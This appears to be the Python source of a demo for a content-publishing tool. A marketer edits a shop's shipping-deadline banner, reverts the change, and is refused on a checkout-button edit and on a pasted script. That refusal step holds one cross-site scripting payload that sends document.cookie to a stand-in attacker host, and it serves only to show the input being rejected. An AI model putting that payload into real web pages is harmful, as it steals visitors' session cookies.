"""``hotfix demo --scenario content``: a marketer's hotfix, live in seconds, no deploy.

A team server (``hotfix serve``'s app, in this process, on loopback and SQLite) holds the
catalog engineering synced from the sample shop's ``content/``; the shop
(``demo/content_shop.py``, stdlib only, a real HTTP server) reads its shipping-deadline
banner and a product's stock level from the public ``GET /content/v1/zones/{zone}`` on
every page. A marketer (own token, role marketer) moves the deadline from Dec 18 to
Dec 20 and the page shows it within seconds; a revert brings Dec 18 back; a change to the
checkout button and a pasted ``<script>`` are refused with the reason.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from datetime import date
from pathlib import Path
from typing import Any

import httpx

from hotfix.demo.sample import APPROVER, ENGINEER, init_sample_repo
from hotfix.demo.team import shop as shop_at
from hotfix.demo.team import team_server
from hotfix.demo.walkthrough import Step

MARKETER = "sam@shop.example"
CONTENT = "/api/v1/projects/default/content"
ZONES = """\
[shipping]
paths = ["/", "/products/*"]

[stock]
paths = ["/products/*"]
"""
TEMPLATES = {
    "shipping-deadline": f"""\
zone = "shipping"
author = "{ENGINEER}"

[slots.deadline]
type = "date"

[slots.message]
type = "text"
max_length = 120
""",
    "stock-level": f"""\
zone = "stock"
author = "{ENGINEER}"

[slots.units]
type = "integer"
min = 0
max = 999
""",
}
CHECKOUT_ZONE = {"checkout-button": {"paths": ["/checkout/**"]}}
VISIBLE_WITHIN = 10.0  # seconds the demo waits for the shop page to show a change


def run_content_demo(workdir: Path, environ: dict[str, str]) -> Iterator[Step]:
    del environ  # the demo's server and shop take nothing from the caller's environment
    with ExitStack() as stack:
        url, tokens = stack.enter_context(_team_server(workdir / "server"))
        shop = stack.enter_context(shop_at("hotfix.demo.content_shop", "--content", url))
        http = {who: stack.enter_context(_client(url, token)) for who, token in tokens.items()}
        page = stack.enter_context(httpx.Client(base_url=f"http://{shop}", timeout=10,
                                                trust_env=False))
        yield Step("A team server serves the content endpoint; the shop (a real HTTP "
                   "server) reads its banner and stock level from it on every page", [
                       f"server {url}: GET /content/v1/zones/{{zone}}",
                       f"shop http://{shop}/products/mug: {_shown(page)}",
                       f"people: {ENGINEER} (engineer), {APPROVER} (approver), "
                       f"{MARKETER} (marketer)"])
        root = workdir / "shop"
        init_sample_repo(root)
        yield _sync(http, root)
        dec18, dec20 = _december(18), _december(20)
        first = _publish(http, "shipping-deadline",
                         {"deadline": dec18.isoformat(), "message": "Order by"})
        _publish(http, "stock-level", {"units": 12})
        seen = _until(page, "Dec 18 for delivery")
        yield Step("The live content today: Dec 18 and 12 mugs in stock", [
            f"{first}: shipping-deadline deadline={dec18}, approved by {APPROVER}, "
            "published", f"the shop shows: {seen}"])
        started = time.monotonic()
        second = _publish(http, "shipping-deadline",
                          {"deadline": dec20.isoformat(), "message": "Order by"})
        published = time.monotonic() - started
        seen = _until(page, "Dec 20 for delivery")
        yield Step(f"{MARKETER}: hotfix content change shipping-deadline "
                   f"--set deadline={dec20}; {APPROVER} approves; publish {second}", [
                       "the team server's API with the marketer's own token, as the CLI "
                       "signed in (hotfix login) calls it",
                       f"drafted, approved and published in {published:.2f} s, no deploy",
                       f"the shop shows: {seen} ({time.monotonic() - started:.2f} s after "
                       "the change was made)"])
        started = time.monotonic()
        _ok(http["marketer"].post(f"{CONTENT}/changes/{second}/revert"))
        seen = _until(page, "Dec 18 for delivery")
        yield Step(f"{MARKETER}: hotfix content revert {second}", [
            f"{second} reverted; the zone shows {first} again",
            f"the shop shows: {seen} ({time.monotonic() - started:.2f} s after the revert)"])
        yield _checkout_refused(http)
        yield _script_refused(http, page)


def approve_templates(approver: httpx.Client, root: Path) -> list[str]:
    """The approver approves each template as the repository's content/ has it (its digest,
    as ``hotfix content approve`` computes it): an ``approve_template`` event each, refused
    (409) when the synced template is not the one reviewed."""
    from hotfix.domain.content.catalog import template_digest
    from hotfix.services.content.catalog import read_catalog

    body = read_catalog(root)
    for name in sorted(body["templates"]):
        _ok(approver.post(f"{CONTENT}/templates/{name}/approve",
                          json={"digest": template_digest(body, name)}))
    return sorted(body["templates"])


def _sync(http: dict[str, httpx.Client], root: Path) -> Step:
    from hotfix.domain.content.catalog import template_digest
    from hotfix.services.content.catalog import read_catalog

    (root / "content" / "templates").mkdir(parents=True)
    (root / "content" / "zones.toml").write_text(ZONES, encoding="utf-8")
    for name, text in TEMPLATES.items():
        (root / "content" / "templates" / f"{name}.toml").write_text(text, encoding="utf-8")
    synced = _ok(http["engineer"].post(f"{CONTENT}/catalog", json=read_catalog(root)))
    own = http["engineer"].post(f"{CONTENT}/templates/stock-level/approve", json={
        "digest": template_digest(read_catalog(root), "stock-level")})
    approved = approve_templates(http["approver"], root)
    return Step("Engineering writes content/zones.toml and two templates and runs hotfix "
                "content sync; an approver reviews and approves each one", [
                    "zones: shipping on / and /products/*, stock on /products/*",
                    f"catalog version {synced['version']}: templates "
                    f"{', '.join(sorted(synced['templates']))}, none usable yet",
                    f"{ENGINEER} (their author, an engineer) approving stock-level: refused "
                    f"({own.status_code}): {_reason(own, 403)}",
                    f"{APPROVER}: hotfix content approve {' and '.join(approved)} (each an "
                    "approve_template event pinning the template's content hash)"])


def _publish(http: dict[str, httpx.Client], template: str, values: dict[str, Any]) -> str:
    made = _ok(http["marketer"].post(f"{CONTENT}/changes",
                                     json={"template": template, "values": values}))
    key = str(made["id"])
    _ok(http["approver"].post(f"/api/v1/projects/default/hotfixes/{key}/approve",
                              json={"note": "content as asked"}))
    done = _ok(http["marketer"].post(f"{CONTENT}/changes/{key}/publish"))
    if done["state"] != "published":
        raise AssertionError(f"{key} is {done['state']}, not published")
    return key


def _checkout_refused(http: dict[str, httpx.Client]) -> Step:
    asked = http["marketer"].post(f"{CONTENT}/changes", json={
        "template": "checkout-button", "values": {"label": "Buy now!"}})
    catalog = _ok(http["engineer"].get(f"{CONTENT}/catalog"))
    widened = http["engineer"].post(f"{CONTENT}/catalog", json={
        "zones": {**catalog["zones"], **CHECKOUT_ZONE}, "templates": catalog["templates"]})
    return Step(f"{MARKETER}: change the checkout button's text to 'Buy now!'", [
        f"refused ({asked.status_code}): {_reason(asked, 404)}",
        "and engineering cannot add a zone on /checkout/** either: "
        f"refused ({widened.status_code}): {_reason(widened, 403)}"], refused=True)


def _script_refused(http: dict[str, httpx.Client], page: httpx.Client) -> Step:
    pasted = "Order by <script>fetch('//evil.example?c='+document.cookie)</script>"
    asked = http["marketer"].post(f"{CONTENT}/changes", json={
        "template": "shipping-deadline",
        "values": {"deadline": _december(20).isoformat(), "message": pasted}})
    return Step(f"{MARKETER}: the banner's message with a pasted <script>", [
        f"refused ({asked.status_code}): {_reason(asked, 422)}",
        f"nothing recorded; the shop still shows: {_shown(page)}"], refused=True)


def _reason(answer: httpx.Response, status: int) -> str:
    if answer.status_code != status:
        raise AssertionError(f"expected {status}, got {answer.status_code}: {answer.text}")
    body = answer.json()
    return f"{body.get('detail')} ({body.get('hint')})" if body.get("hint") else \
        str(body.get("detail"))


def _ok(answer: httpx.Response) -> Any:
    if not answer.is_success:
        raise AssertionError(f"{answer.request.method} {answer.request.url.path}: "
                             f"{answer.status_code} {answer.text}")
    return answer.json()


def _shown(page: httpx.Client) -> str:
    """The product page's banner and stock level, as a reader sees them."""
    text = page.get("/products/mug").text
    return " · ".join(re.findall(r'<p class="\w+">([^<]*)</p>', text))


def _until(page: httpx.Client, wanted: str) -> str:
    deadline = time.monotonic() + VISIBLE_WITHIN
    while True:
        shown = _shown(page)
        if wanted in shown:
            return shown
        if time.monotonic() > deadline:
            raise AssertionError(f"the shop page did not show {wanted!r} within "
                                 f"{VISIBLE_WITHIN:.0f} s: {shown}")
        time.sleep(0.05)


def _december(day: int) -> date:
    """Dec ``day`` of this year, or next year's once it has passed (a date slot refuses the
    past)."""
    today = date.today()
    return date(today.year + (today > date(today.year, 12, 18)), 12, day)


@contextmanager
def _team_server(directory: Path) -> Iterator[tuple[str, dict[str, str]]]:
    directory.mkdir(parents=True)
    (directory / "hotfix.toml").write_text("")
    env = {"HOTFIX_DATABASE_URL": f"sqlite:///{directory / 'server.db'}"}
    people = {ENGINEER: "engineer", APPROVER: "approver", MARKETER: "marketer"}
    with team_server(directory, env, people) as team:
        yield team.url, {role: team.tokens[who] for who, role in people.items()}


@contextmanager
def _client(url: str, token: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {token}"},
                      timeout=30, trust_env=False) as client:
        yield client


